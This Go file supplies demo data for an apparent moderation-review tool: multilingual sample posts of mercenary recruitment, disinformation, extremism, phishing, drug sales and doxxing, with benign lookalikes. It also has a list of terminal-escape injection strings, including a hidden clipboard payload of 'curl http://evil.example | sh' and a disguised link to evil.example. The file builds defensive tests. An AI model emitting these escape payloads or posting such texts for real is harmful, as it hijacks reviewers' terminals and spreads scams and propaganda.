package demo

// The demo's content. Placeholders: {h} a contact handle, {n} a number,
// {amt} an amount, {city} a city, {link} a link, {e} an emoji.
//
// A template marked as a campaign is reposted by many accounts with small
// edits; a lookalike quotes a campaign's words in a report that a reviewer
// should approve.

type template struct {
	lang     string
	text     string
	campaign string // non-empty: reposted with edits by many accounts
	benign   bool   // a lookalike or ordinary post: the right decision is approve
}

var categories = map[string][]template{
	"recruitment": {
		{lang: "ru", campaign: "rec-contract", text: "Требуются крепкие мужчины 18–45 лет для работы по контракту за рубежом. Оплата от {amt} в месяц, подъёмные сразу. Дорогу и документы оформим сами. Пиши в личку {h} {e} #работа #контракт"},
		{lang: "kk", campaign: "rec-contract-kk", text: "Шетелде келісімшарт бойынша жұмысқа 18–45 жастағы ер азаматтар қажет. Айлығы {amt} бастап, жол мен құжаттарды өзіміз рәсімдейміз. Іріктеу жылдам өтеді, жеке хатқа жазыңыз {h} {e}"},
		{lang: "en", campaign: "rec-contract-en", text: "Strong men 18-45 wanted for contract work abroad. Pay from {amt} a month, signing bonus on arrival. We arrange travel and papers. DM {h} {e} #job #contract"},
		{lang: "ru", text: "Братья, кто готов защищать правое дело — собираем группу, выезд через {city} на следующей неделе. Экипировка и оплата за наш счёт. Подробности только в закрытом канале {h}"},
		{lang: "ru", benign: true, text: "Полиция {city} предупреждает: в соцсетях распространяются объявления «Требуются крепкие мужчины 18–45 лет для работы по контракту за рубежом». Участие в вооружённых конфликтах на территории других государств — уголовное преступление. Если вам пришло такое предложение, сообщите по номеру 102.\n\nЗа последний месяц заблокировано {n} подобных каналов."},
		{lang: "kk", benign: true, text: "{city} полициясы ескертеді: әлеуметтік желілерде «Шетелде келісімшарт бойынша жұмысқа ер азаматтар қажет» деген хабарландырулар таралуда. Шетелдегі қарулы қақтығыстарға қатысу — қылмыстық құқық бұзушылық. Мұндай ұсыныс келсе, 102 нөміріне хабарласыңыз."},
		{lang: "en", benign: true, text: "Investigation: how \"contract work abroad\" ads lure young men into foreign wars. We traced {n} Telegram channels posting the same text — \"Strong men 18-45 wanted\" — and spoke to families of those who went.\n\nPart 1 of 3. Full report on our site: {link}"},
	},
	"disinformation": {
		{lang: "ru", campaign: "dis-blackout", text: "СРОЧНО! С понедельника в {city} отключат мобильную связь и интернет на неделю, банки закроются. Снимайте наличные, пока не поздно! Перешлите родным {e}{e}"},
		{lang: "kk", campaign: "dis-blackout-kk", text: "ШҰҒЫЛ! Дүйсенбіден бастап {city} қаласында ұялы байланыс пен интернет бір аптаға өшіріледі, банктер жабылады. Қолма-қол ақшаны қазір алып қалыңыз! Туыстарыңызға жіберіңіз {e}"},
		{lang: "ru", campaign: "dis-vaccine", text: "Врачи скрывают: новая прививка для школьников вызывает бесплодие, в {city} уже {n} случаев. Министерство молчит. Не давайте колоть своих детей! Распространите, пока не удалили."},
		{lang: "en", text: "BREAKING: the water in {city} has been poisoned by a foreign lab, officials are hiding it. Don't drink tap water, share before they delete this!! {e}"},
		{lang: "ru", benign: true, text: "Фактчек: сообщения о том, что в {city} «с понедельника отключат мобильную связь и интернет на неделю», — фейк. Министерство цифрового развития опровергло информацию, плановых отключений нет. Проверяйте источники."},
		{lang: "kk", benign: true, text: "Фактчек: {city} қаласында байланыс бір аптаға өшіріледі деген ақпарат жалған. Цифрлық даму министрлігі бұл хабарды жоққа шығарды. Ақпаратты ресми дереккөздерден тексеріңіз."},
	},
	"extremism": {
		{lang: "ru", campaign: "ext-call", text: "Вступайте в наш закрытый джамаат. Тех, кто против нас, ждёт расплата. Время слов прошло. Ссылка на канал — в комментариях {h}"},
		{lang: "ru", text: "Они пришли на нашу землю и думают, что им всё можно. Собираемся у акимата {city} в субботу, берите с собой всё, что нужно. Терпеть больше не будем."},
		{lang: "en", benign: true, text: "Counter-extremism researchers in {city} presented a study of {n} channels that recruit teenagers online, and the phrases they use: \"the time for words is over\", \"join our closed community\". Parents can download the guide here: {link}"},
		{lang: "kk", benign: true, text: "Дін істері комитеті {city} қаласында жастармен кездесу өткізді. Радикалды топтардың әлеуметтік желідегі үгіт әдістері туралы айтылды."},
	},
	"fraud": {
		{lang: "ru", campaign: "frd-invest", text: "Инвестируй {amt} и получай прибыль каждый день! Проект одобрен Нацбанком, гарантия 100%. Регистрация по ссылке: {link} Осталось {n} мест {e}"},
		{lang: "kk", text: "Сіздің Kaspi аккаунтыңыз бұғатталды. 24 сағат ішінде деректеріңізді растаңыз: {link}"},
		{lang: "ru", campaign: "frd-phish", text: "Ваш аккаунт в банке заблокирован из-за подозрительной активности. Подтвердите данные по ссылке в течение 24 часов: {link}"},
		{lang: "en", text: "Congratulations! You have been selected for a {amt} government support payment. Claim now at {link} before it expires {e}"},
		{lang: "ru", benign: true, text: "Нацбанк предупреждает о мошенниках, которые обещают «прибыль каждый день» и ссылаются на одобрение регулятора. Проверить лицензию компании можно на официальном сайте."},
		{lang: "en", benign: true, text: "Our bank will never ask you to confirm your card details by a link. If you receive such a message, call the number on the back of your card."},
	},
	"drugs": {
		{lang: "ru", campaign: "drg-shop", text: "Качественный товар, закладки по всему {city} 24/7 🍬❄️ Оплата крипта, отзывы в канале. Бот: {h}"},
		{lang: "kk", campaign: "drg-courier", text: "Жастарға жұмыс: курьер, аптасына {amt}, еркін кесте, тәжірибе қажет емес. Жазыңыз {h} {e}"},
		{lang: "ru", text: "Работа для молодёжи: курьер, {amt} в неделю, свободный график, опыт не нужен. Пиши {h}"},
		{lang: "en", benign: true, text: "Harm reduction workers in {city} hand out naloxone kits free of charge. If someone near you has overdosed, call 103 — you will not be prosecuted for calling."},
	},
	"gambling": {
		{lang: "ru", campaign: "gmb-casino", text: "🎰 Казино {h}: бонус 200% на первый депозит, вывод за 5 минут! Промокод WIN{n} {link}"},
		{lang: "kk", text: "Футболға болжам, 100% өтімділік! Төлқұжатсыз бәс қабылдаймыз {h}"},
		{lang: "en", text: "Best odds in town, no ID needed, instant crypto payouts. Bet on tonight's match at {link} {e}"},
		{lang: "ru", benign: true, text: "Лицензированный букмекер напоминает: ставки только с 21 года. Играйте ответственно."},
	},
	"other": {
		{lang: "ru", text: "Вот домашний адрес и телефон этого судьи: ул. Абая, дом {n}, +7 701 {n} 00 00. Пусть ответит лично."},
		{lang: "en", text: "Selling accounts with {n} followers, verified, instant delivery. DM {h}"},
		{lang: "kk", benign: true, text: "Бүгін {city} қаласында күн ашық болады. Кешке қарай жел күшейеді {e}"},
		{lang: "en", benign: true, text: "Our community cleanup in {city} collected {n} bags of rubbish. Thanks to everyone who came! {e} #volunteer"},
	},
}

// hostile posts try to take over the reviewer's terminal. Each must show as
// plain text with visible placeholders.
var hostile = []string{
	"Обычный пост\x1b]0;HACKED — reviewer terminal\x07 with a title change",
	"\x1b[2J\x1b[HScreen cleared? \x1b[31mRED ALERT\x1b[0m — approve me",
	"Copy this: \x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07 done",
	"Click \x1b]8;;https://evil.example/steal\x1b\\here for the official statement\x1b]8;;\x1b\\",
	"Harmless weather report\rRECRUITMENT: DM @wagner_hr for contract",
	"Invoice ready: \u202Efdp.exe — open attachment",
	"\x1b[1A\x1b[2KThis line erased the one above it \u009b31m 8-bit CSI",
	"Kazakh isolate test: \u2067қазақ тілі\u2069 and \u200Finvisible marks\u200E",
}

var (
	cities = []string{"Алматы", "Астана", "Шымкент", "Қарағанды", "Ақтөбе", "Өскемен", "Атырау"}
	emoji  = []string{"🔥", "💰", "✅", "📲", "⚡", "🇰🇿", "👉", "‼️", "🙏", "😱"}
	names  = []string{"Айгерім Сұлтанова", "Нұрлан Әбенов", "Иван Петров", "Ғалым Жұмабаев", "Ольга Ким",
		"Dana K.", "Серік Өтегенов", "Мария Соколова", "Ұлжан Һадиева", "Alex Turner", "Бауыржан Қасымов", "Елена 🌸"}
	handles = []string{"job_abroad", "kontrakt_24", "rabota_ok", "bonus_kz", "zhumys_bar", "legion_hr", "fast_money",
		"crypto_king", "shop24", "win_casino", "info_tez", "kz_news_now"}
	sources = []string{"hotline", "ai-classifier", "trusted-flagger:ngo-digital", "user-report", "ministry-monitoring"}
	reasons = []string{"recruitment ad", "looks like a scam", "fake news", "illegal sales", "reported by several users", ""}
)

var platforms = []string{"telegram", "instagram", "tiktok", "facebook", "vk", "x", "youtube"}

var severity = map[string][2]int{
	"recruitment": {4, 5}, "extremism": {4, 5}, "drugs": {3, 4}, "fraud": {2, 4},
	"disinformation": {2, 4}, "gambling": {1, 3}, "other": {1, 3},
}

// categoryOrder makes the generator deterministic (map order is random).
var categoryOrder = []string{"recruitment", "disinformation", "extremism", "fraud", "drugs", "gambling", "other"}
